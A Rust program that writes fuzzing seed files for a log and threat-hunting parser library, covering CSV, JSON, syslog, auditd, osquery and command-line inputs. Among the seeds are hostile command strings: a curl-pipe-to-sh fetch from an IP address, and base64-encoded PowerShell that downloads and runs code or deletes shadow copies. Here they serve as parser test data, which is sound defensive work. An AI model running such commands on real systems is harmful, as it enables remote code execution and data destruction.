//! Writes the first inputs of every target into `fuzz/corpus`: small files made
//! here, the test fixtures, and the heads of the sample logs if they were made.
//!
//!     cargo run --manifest-path fuzz/Cargo.toml --example seeds      (in the project's folder)

use std::fs;
use std::io;
use std::path::Path;

use huntbook::table::IpcFormat;
use huntbook::table::read::{Format, OnBadRow};
use huntbook_fuzz::read_as;

/// Long files only slow the fuzzer down.
const MAX_BYTES: usize = 4096;

const CSV: &[&str] = &[
    "a,b\n1,2\n3,\n",
    "Time;User;\"A \"\"b\"\"\"\r\n2019-01-15T05:15:15.677Z;\"x\ny\";1.5\r\n",
    "a\tb\tb\n007\t+5\t1e999\ntrue\tFalse\t9223372036854775808\n",
    "\"1/15/2019, 5:16:03.000 AM\",x\n\"12/31/2019, 12:00:00.000 PM\",y\n",
];
const JSON: &[&str] = &[
    r#"[{"a":1,"b":{"c":[1,2.5,null]}},{"a":"x","b":{"c":[]},"d":true}]"#,
    r#"{"took":1,"hits":{"hits":[{"a":"2019-01-15T05:15:15Z"},{"a":null}]}}"#,
    r#"[["a"],"\ud83d\ude00\u0000",1e400,-0]"#,
];
const NDJSON: &[&str] = &[
    "{\"a\":1,\"b\":\"x\"}\n{\"a\":2.5}\n\n{\"a\":{\"b\":{\"c\":1}}}\n",
    "{\"a\":1}\n{\"a\":\n{\"a\":9223372036854775808,\"a\":2}\n",
];
const TEXT: &[&str] = &[
    "Jan  1 00:00:00 host sshd[1]: Accepted\n\ntype=A msg=audit(1.1:1): a=1\r\nlast",
    "hxxps[:]//evil[.]example/a?b=c 10.0.0[.]1 2001:db8::1 user[at]example(dot)com\n",
    r"HKLM\Software\X C:\Windows\System32\cmd.exe /usr/bin/sh d41d8cd98f00b204e9800998ecf8427e",
    "1BoatSLRHtKNngkdXEeobR76b53LETtpyT T1059.001 CVE-2021-44228 00:1a:2b:3c:4d:5e",
];
/// The rules' own examples are the best command lines; these have quotes and blocks.
const COMMAND_LINES: &[&str] = &[
    r#""C:\a b\x.exe" "c:\dir\\" "say \"hi\"" a\\\"b"#,
    r#"sh -c 'echo "a b" | base64 -d; curl http://203.0.113.7/a|sh' \ x"#,
    "$a=@\"\nx;{\n\"@;if($a){\"b$(c ';)')\"|%{$_};d} # e;f\n<# g #>",
    "powershell -nop -enc dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzAA==",
    include_str!("../../src/transform/command_line/rules.json"),
    include_str!("../../src/transform/command_line/examples.json"),
];

const ENCODED: &[&str] = &[
    "powershell -enc SQBFAFgAIAAoAGkAdwByACAAeAApAA== and H4sIAAAAAAAACg==",
    "x='SGVsbG8gZnJvbSBpbnNp'+'ZGUuIFZpc2l0' q=SGVsbG8gZnJvbSBp%2BbnNpZGU%3D",
    "SGVsbG8gZnJvbSBpbnNpZGUuIFZpc2l0IGh0dHA6Ly9l\r\ndmlsLmV4YW1wbGU=\n48656C6C6F2066726F6D20696E73696465",
    "data UEsDBBQAAAAIAAAAIVDT0/U4RQAAAEcAAAAFAAAAYS50eHQNyM0NgDAIBtBVmADuTuAE3on9jCS0NNL4s719x7fCPei4",
    "QlpoOTFBWSZTWbzHKEUAAARZgAAQAAQwADAAAGAgADEMCCNBmo4EIheLuSKcKEheY5QigA==",
    "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQALYSxiCjEseAoyLHkKAEzgt25dEyFzAAEkDKYY2NgftvN9AQAAAAAEWVo=",
    "[char]73+[char]69+[char]88+ [char]32 %3C%73%63%72%69%70%74%3E%31 \\x63\\x6d\\x64\\x2e\\x65\\x78\\x65\\x20",
    "0x4d,0x5a,0x90,0x00, 72,101,108,108,111,32,119,111,114,108,100,33,33",
];

const OSQUERY: &[&str] = &[
    r#"{"name":"p","hostIdentifier":"h","unixTime":1,"decorations":{"username":"u"},"columns":{"pid":"12","name":"sh","mtime":"7"},"action":"added"}"#,
    r#"{"snapshot":[{"pid":"1"},{"pid":"2"}],"action":"snapshot","name":"p","unixTime":1}"#,
    r#"{"diffResults":{"added":[{"pid":"1"}],"removed":""},"name":"p","hostIdentifier":"h","unixTime":1}"#,
];
const WEBLOG: &[&str] = &[
    "::1 - - [17/May/2015:10:05:03 +0000] \"GET /a?b HTTP/1.1\" 200 1 \"-\" \"a \\\"b\\\"\"\n",
    "h:443 10.0.0.1 - bob [17/May/2015:10:05:03 -0730] \"\\x16\" 400 - \"http://x/\" \"-\" 0.5\n",
];
const AUDITD: &[&str] = &[
    "node=h type=SYSCALL msg=audit(1.5:1): arch=c000003e syscall=59 a0=1 pid=2 auid=4294967295 comm=\"a b\" exe=2F62 key=(null)\u{1d}ARCH=x86_64 UID=\"root\"\ntype=EXECVE msg=audit(1.5:1): argc=2 a0=\"ls\" a1_len=4 a1[0]=C3 a1[1]=A9\ntype=PATH msg=audit(1.5:1): item=0 name=\"/a\"\ntype=PATH msg=audit(1.5:1): item=1 mode=07\n",
    "----\ntime->Sat\ntype=SYSCALL msg=audit(03/02/2019 00:11:00.889:815) : arch=x86_64 exit=EACCES(Permission denied) auid=unset uid=root name=/my dir x=1\ntype=SOCKADDR msg=audit(03/02/2019 00:11:00.889:815) : saddr={ saddr_fam=inet laddr=10.0.0.1 lport=53 }\n",
    "type=USER_AUTH msg=audit(1.5:1): pid=7 msg='op=x acct=\"root\" (hostname=?, res=1)'\ntype=SOCKADDR msg=audit(1.5:2): saddr=02000035A83F8110\ntype=AVC msg=audit(1.5:3): avc:  denied  { read } for  pid=1 pid=2\n",
    "mssg_id,Computer,AuditdMessage\n1.5:1,h,\"[{'A': ['x=1', \"\"m='a=b\"\", 'c=d']}]\"\n1.5:2,h,x\n",
];
const SYSLOG: &[&str] = &[
    "<34>Oct 11 22:14:15 h sshd[1]: Accepted password for bob from 10.0.0.1 port 22 ssh2\nOct 11 22:14:15 h sshd[1]: pam_unix(sshd:session): session opened for user bob by (uid=0)\nOct 11 22:15:15 h sshd[1]: pam_unix(sshd:session): session closed for user bob\n",
    "<165>1 2003-10-11T22:14:15.003Z h app - ID47 [e@1 a=\"b\"] x\n2023-10-11T22:14:15+02:00 h CRON[2]: (root) CMD (x)\n",
    "Feb 29 2024 00:00:00 h sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash\nFeb 29 00:00:00 h sudo: pam_unix(sudo:session): session opened for user root by bob(uid=0)\n",
    "{\"__REALTIME_TIMESTAMP\":\"1704067500000000\",\"_HOSTNAME\":\"h\",\"PRIORITY\":\"6\",\"_COMM\":\"su\",\"MESSAGE\":[104,255]}\n{\"MESSAGE\":\"x\",\"_PID\":7}\n",
];

/// Time, user, command, number, parameters.
const EVENTS: &[&str] = &[
    "0 a x 1 {\"p\":1}\n60000000 a y 2 [{\"Name\":\"p\",\"Value\":\"v\"}]\n120000000 b x 1e300 [\"p\"]\n3600000000 a x -1 {}\n",
    "9223372036854775807 a x NaN null\n-9223372036854775808 a x inf {\"p\":{\"q\":[]}}\nx\n\n0  y  \n",
];

fn main() -> io::Result<()> {
    for (i, seed) in ENCODED.iter().enumerate() {
        add("unpack", &format!("{i}"), seed.as_bytes())?;
    }
    for (target, seeds) in [
        ("read_osquery", OSQUERY),
        ("read_weblog", WEBLOG),
        ("auditd", AUDITD),
        ("syslog", SYSLOG),
        ("analysis", EVENTS),
    ] {
        for (i, seed) in seeds.iter().enumerate() {
            add(target, &format!("{i}"), seed.as_bytes())?;
        }
    }
    for (i, seed) in COMMAND_LINES.iter().enumerate() {
        add("command_line", &format!("{i}"), &seed.as_bytes()[..seed.len().min(MAX_BYTES)])?;
    }
    for (target, seeds) in [
        ("csv", CSV),
        ("json", JSON),
        ("ndjson", NDJSON),
        ("text", TEXT),
    ] {
        for (i, seed) in seeds.iter().enumerate() {
            add(&format!("read_{target}"), &format!("{i}"), seed.as_bytes())?;
            add("read_archive", &format!("{target}-{i}"), seed.as_bytes())?;
            add("extract", &format!("{target}-{i}"), seed.as_bytes())?;
            add("unpack", &format!("{target}-{i}"), seed.as_bytes())?;
        }
    }
    // Arrow files are made of what the other readers read.
    let tables = [
        (Format::Csv, CSV),
        (Format::Json, JSON),
        (Format::Ndjson, NDJSON),
        (Format::Text, TEXT),
    ];
    for (format, seeds) in tables {
        for (i, seed) in seeds.iter().enumerate() {
            let Ok(table) = read_as(seed.as_bytes(), Some(format), OnBadRow::Skip) else {
                continue;
            };
            for (kind, shape) in [("stream", IpcFormat::Stream), ("file", IpcFormat::File)] {
                let bytes = table.to_ipc(shape).map_err(io::Error::other)?;
                add(
                    "read_arrow",
                    &format!("{}-{i}-{kind}", format.name()),
                    &bytes,
                )?;
            }
        }
    }
    each_file(
        "tests/fixtures/pickles",
        &mut |name, bytes| match name.ends_with(".pkl") {
            true => add("read_pickle", name, bytes),
            false => add("read_archive", name, bytes),
        },
    )?;
    each_file("www/samples", &mut |name, bytes| {
        let head = &bytes[..bytes.len().min(MAX_BYTES)];
        let target = match Path::new(name).extension().and_then(|end| end.to_str()) {
            Some("csv" | "tsv") => "read_csv",
            Some("json") => "read_json",
            Some("ndjson" | "jsonl") => "read_ndjson",
            Some("gz" | "zip") => return Ok(()),
            _ => "read_text",
        };
        add(target, name, head)?;
        match name {
            "audit.log" => add("auditd", name, head)?,
            "syslog.log" => add("syslog", name, head)?,
            _ => {}
        }
        add("extract", name, head)
    })
}

fn add(target: &str, name: &str, bytes: &[u8]) -> io::Result<()> {
    let folder = Path::new("fuzz/corpus").join(target);
    fs::create_dir_all(&folder)?;
    fs::write(folder.join(format!("seed-{name}")), bytes)
}

/// The files of a folder; none if it is not there.
fn each_file(folder: &str, each: &mut dyn FnMut(&str, &[u8]) -> io::Result<()>) -> io::Result<()> {
    let Ok(files) = fs::read_dir(folder) else {
        return Ok(());
    };
    for file in files {
        let path = file?.path();
        if path.is_file() {
            let name = path
                .file_name()
                .unwrap_or_default()
                .to_string_lossy()
                .into_owned();
            each(&name, &fs::read(&path)?)?;
        }
    }
    Ok(())
}
